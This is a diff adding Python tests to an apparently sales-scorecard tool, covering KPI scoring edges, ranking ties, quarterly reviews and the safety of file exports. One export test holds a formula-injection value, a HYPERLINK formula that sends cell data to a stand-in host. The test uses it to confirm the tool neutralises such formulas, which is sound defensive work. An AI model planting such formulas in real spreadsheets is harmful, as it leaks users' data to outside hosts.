@@ -319,3 +319,79 @@ def test_built_in_scorecards_template(tmp_path: Path) -> None:
     with Lianxing.open(ws) as lx:
         cards = {r["scorecard"] for r in lx.team_score("2026-03")}
     assert cards == {"operator", "manager"}
+
+
+def test_review_fixes_scoring_edges() -> None:
+    """A floor on the wrong side of the target scores nothing (never backwards), a
+    perfect zero where lower is better reaches the top band, no −0.00, empty gates
+    refused."""
+    from lianxing.scorecards import Band, CardKpi, floor_misplaced, points
+
+    linear = CardKpi("net_profit", Decimal(40), "linear", Decimal(0), Decimal("1.2"), (), None,
+                     None)  # fmt: skip
+    # a loss target of −1000 with the default floor 0: the floor is above the target
+    assert floor_misplaced(linear, Decimal(-1000), True)
+    assert points(linear, Decimal(-2000), Decimal(-1000), True) == (Decimal("0.00"), None)
+    fixed = CardKpi("net_profit", Decimal(40), "linear", Decimal(-3000), Decimal(1), (), None,
+                    None)  # fmt: skip
+    assert points(fixed, Decimal(-2000), Decimal(-1000), True)[0] == Decimal("20.00")
+    assert points(fixed, Decimal(-500), Decimal(-1000), True)[0] == Decimal("40.00")
+    earned, _ = points(fixed, Decimal(-3500), Decimal(-1000), True)
+    assert str(earned) == "0.00"  # not -0.00
+    bands = CardKpi("return_rate", Decimal(15), "bands", None, Decimal(1),
+                    (Band(Decimal(1), Decimal(1)), Band(Decimal("0.8"), Decimal("0.5"))), None,
+                    None)  # fmt: skip
+    assert points(bands, Decimal(0), Decimal("0.05"), False)[0] == Decimal("15.00")
+    assert points(bands, Decimal("0.06"), Decimal("0.05"), False)[0] == Decimal("7.50")
+
+
+def test_empty_gate_list_is_refused(tmp_path: Path) -> None:
+    head = "scorecards:\n  - name: x\n    applies_to: {role: operator}\n    kpis:\n"
+    error = _bad(tmp_path, head + "      - {kpi: sales, weight: 100}\n"
+                 "    gates: [{kpi: sales, below: 1, zero: []}]\n")  # fmt: skip
+    assert error.key == "scorecards.bad_gate"
+
+
+def test_exports_are_private_and_never_run_formulas(tmp_path: Path) -> None:
+    import csv
+    import stat
+
+    from openpyxl import load_workbook
+
+    from lianxing.export import write_table, write_text
+
+    rows = [{"name": '=HYPERLINK("http://x.example/?"&A1,"click")', "payout": Decimal("1.50")},
+            {"name": "+1-555", "payout": Decimal("-2.00")}]  # fmt: skip
+    sheet = write_table(tmp_path / "p.xlsx", rows, ["name", "payout"], {})
+    cells = list(load_workbook(sheet).active.iter_rows(min_row=2))
+    assert cells[0][0].data_type == "s" and cells[0][0].value.startswith("=HYPERLINK")
+    assert cells[1][1].value == -2  # numbers stay numbers, negative ones too
+    table = write_table(tmp_path / "p.csv", rows, ["name", "payout"], {})
+    with table.open(encoding="utf-8-sig") as f:
+        read = list(csv.reader(f))
+    assert read[1][0].startswith("'=") and read[2][0] == "'+1-555" and read[2][1] == "-2.00"
+    page = write_text(tmp_path / "r.html", "<p>x</p>")
+    for path in (sheet, table, page):
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+    assert not list(tmp_path.glob(".lianxing-*"))  # no temporary files left
+
+
+def test_ties_share_a_rank_and_history_takes_whole_quarters(tmp_path: Path) -> None:
+    ws = _team(tmp_path)
+    with Lianxing.open(ws) as lx:
+        lx.team_adjust("2026-03", "wang", "25.29", "Same as zhao", "boss")  # 74.71 → 100
+        ranks = {r["person"]: r["rank"] for r in lx.team_score("2026-03")}
+        history = lx.team_history("2026-01", "2026-Q1")
+    assert ranks == {"wang": 1, "zhao": 1, "li": 3}
+    assert sorted({r["period"] for r in history}) == ["2026-01", "2026-02", "2026-03"]
+
+
+def test_review_compares_a_quarter_with_the_quarter_before(tmp_path: Path) -> None:
+    ws = _team(tmp_path)
+    with Lianxing.open(ws) as lx:
+        review = lx.team_review("zhao", "2026-Q2")
+        month = lx.team_review("zhao", "2026-03")
+    assert review["before"] == "2026-01-01…2026-03-31"
+    assert month["before"] == "2026-02-01…2026-02-28"
+    # the quarter before holds zhao's March sale: it is the one that fell most
+    assert [r["sku"] for r in review["hurt"]] == ["MUG"]
